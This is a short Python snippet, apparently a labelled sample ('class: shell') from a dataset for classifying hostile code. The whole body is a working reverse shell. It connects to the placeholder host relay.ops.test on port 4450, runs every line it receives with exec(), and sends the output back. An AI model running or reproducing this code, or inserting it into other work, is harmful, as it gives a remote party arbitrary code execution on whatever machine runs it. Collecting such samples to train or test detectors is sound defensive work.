# class: shell; possible: low medium high
import contextlib, io, socket
s = socket.create_connection(("relay.ops.test", 4450)); ns = {}
for line in s.makefile("r"):
    line = line.strip()
    if line == "exit": break
    o = io.StringIO()
    with contextlib.redirect_stdout(o):
        try: exec(line, ns)
        except Exception as e: print(e)
    s.sendall((o.getvalue() or "\n").encode())
